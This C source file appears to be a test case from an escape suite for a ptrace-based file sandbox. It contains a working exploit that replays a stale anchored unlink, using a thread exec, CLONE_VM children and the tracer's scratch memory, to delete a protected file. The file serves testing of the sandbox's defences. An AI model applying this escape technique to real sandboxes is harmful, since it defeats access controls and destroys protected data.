/*
 * Vector 2, 7: a thread's anchored call (tracer/anchor.c) is known again by
 * its number and arguments while its anchor fds are open, and then resumed
 * undecided ("restarted after a signal"). The leader's record survives an
 * exec made by another thread (the leader's tracee takes the new program,
 * its scratch slot is freed, its anchors are not).
 * Stage 1: the leader unlinks work/a/x (anchored: "/proc/A/fd/N/x" pinned
 * in its slot) and makes no traced call after; a second thread execs
 * stage 2. Stage 2's leader makes no traced call either: a CLONE_VM child
 * C takes the same slot with unlink(work/e/victim.txt), pinned as
 * "/proc/A/fd/M/victim.txt", and lets M close; a second one, D, chmods the
 * protected directory itself (allowed: the rule names what is below it), which
 * the tracer anchors at fd M again. The leader repeats stage 1's unlink,
 * same registers: the kernel removes protected/victim.txt. Linked static
 * (a dynamic loader's opens are traced calls). Natively there is no
 * scratch: stage 2 removes the victim by name.
 * success = protected/victim.txt is gone.
 * expect: ptrace_file
 * expect-match: victim.txt
 */
#include "esc.h"
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <sys/mman.h>

/* tracer/scratch.h */
#define SCRATCH_BASE (0x3f0000000000ull + (1ull << 29))
#define SLOT_SIZE (192u * 1024u)
#define NSLOTS 512

/* A syscall with every argument register set: the record compares six. */
static long raw_unlink(uint64_t path)
{
	register long r10 __asm__("r10") = 0, r8 __asm__("r8") = 0, r9 __asm__("r9") = 0;
	long ret;

	__asm__ volatile("syscall"
			 : "=a"(ret)
			 : "a"((long)SYS_unlink), "D"(path), "S"(0L), "d"(0L), "r"(r10), "r"(r8), "r"(r9)
			 : "rcx", "r11", "memory");
	return ret;
}

static atomic_int go;
static char self[4096], addr_arg[32], traced_arg[4];
static volatile int *shared; /* [0] C done, [1] D's round, [2] leader's round */

static void *execer(void *arg)
{
	extern char **environ;
	char *argv[] = { "esc_anchor_stale_exec", "2", addr_arg, traced_arg, NULL };

	(void)arg;
	while (!atomic_load(&go))
		;
	execve(self, argv, environ);
	_exit(3);
}

static int child_c(void *arg)
{
	(void)arg;
	raw_unlink((uint64_t)(uintptr_t)esc_fmt("%s/e/victim.txt", esc_work()));
	kill(getpid(), 0); /* a traced call: its anchor fd closes */
	shared[0] = 1;
	for (;;)
		pause();
	return 0;
}

static int child_d(void *arg)
{
	struct stat st;

	(void)arg;
	stat(esc_protected(), &st);
	for (int i = 1; i <= 200; i++) {
		chmod(esc_protected(), st.st_mode & 07777);
		shared[1] = i;
		while (shared[2] != i)
			;
	}
	for (;;)
		pause();
	return 0;
}

/* The tracer's scratch region is mapped here (read before the attack:
 * an open is a traced call). */
static bool scratch_mapped(void)
{
	char line[256], want[32];
	FILE *f = fopen("/proc/self/maps", "r");
	bool found = false;

	snprintf(want, sizeof(want), "%llx-", (unsigned long long)SCRATCH_BASE);
	while (f && !found && fgets(line, sizeof(line), f))
		found = strncmp(line, want, strlen(want)) == 0;
	if (f)
		fclose(f);
	return found;
}

static int stage2(uint64_t addr, bool traced)
{
	const char *victim = esc_fmt("%s/victim.txt", esc_protected());
	char *stk_c, *stk_d;

	if (!traced) {
		raw_unlink((uint64_t)(uintptr_t)victim);
		if (!esc_exists(victim))
			esc_success("(natively, by name) protected/victim.txt removed");
		esc_blocked("unlink %s: %s", victim, strerror(errno));
	}
	shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	stk_c = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	stk_d = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (shared == MAP_FAILED || stk_c == MAP_FAILED || stk_d == MAP_FAILED)
		esc_broken("mmap: %s", strerror(errno));
	if (clone(child_c, stk_c + 65536, CLONE_VM | SIGCHLD, NULL) < 0)
		esc_broken("clone: %s", strerror(errno));
	while (!shared[0])
		;
	if (clone(child_d, stk_d + 65536, CLONE_VM | SIGCHLD, NULL) < 0)
		esc_broken("clone: %s", strerror(errno));
	for (int i = 1; i <= 200; i++) {
		while (shared[1] != i)
			;
		if (addr)
			raw_unlink(addr);
		if (!esc_exists(victim))
			esc_success("protected/victim.txt removed by a stale anchored unlink (round %d)", i);
		shared[2] = i;
	}
	/* blocked: the plain call, for the record */
	if (unlink(victim) == 0)
		esc_success("protected/victim.txt removed by name");
	esc_blocked("protected/victim.txt survived 200 stale unlinks");
}

int main(int argc, char **argv)
{
	pthread_t t;
	uint64_t addr = 0;
	bool traced;
	ssize_t n;

	if (argc > 3 && strcmp(argv[1], "2") == 0)
		return stage2(strtoull(argv[2], NULL, 16), argv[3][0] == '1');
	n = readlink("/proc/self/exe", self, sizeof(self) - 1);
	if (n <= 0)
		esc_broken("readlink /proc/self/exe: %s", strerror(errno));
	self[n] = 0;
	mkdir(esc_fmt("%s/a", esc_work()), 0755);
	mkdir(esc_fmt("%s/e", esc_work()), 0755);
	close(open(esc_fmt("%s/a/x", esc_work()), O_CREAT | O_WRONLY, 0644));
	close(open(esc_fmt("%s/e/victim.txt", esc_work()), O_CREAT | O_WRONLY, 0644));
	traced = esc_tracer_pid() != 0;
	bool mapped = traced && scratch_mapped();
	pthread_create(&t, NULL, execer, NULL);
	/* From here to the exec: no traced call in this thread. */
	raw_unlink((uint64_t)(uintptr_t)esc_fmt("%s/a/x", esc_work()));
	for (int i = 0; mapped && i < NSLOTS && !addr; i++) {
		const char *s = (const char *)(uintptr_t)(SCRATCH_BASE + (uint64_t)i * SLOT_SIZE);
		size_t len = strnlen(s, 4096);

		if (strncmp(s, "/proc/", 6) == 0 && len > 2 && strcmp(s + len - 2, "/x") == 0)
			addr = (uint64_t)(uintptr_t)s;
	}
	/* No anchored name (a mode that pins by name): stage 2 only records. */
	snprintf(addr_arg, sizeof(addr_arg), "%llx", (unsigned long long)addr);
	snprintf(traced_arg, sizeof(traced_arg), "%d", traced);
	atomic_store(&go, 1);
	for (;;)
		pause();
}
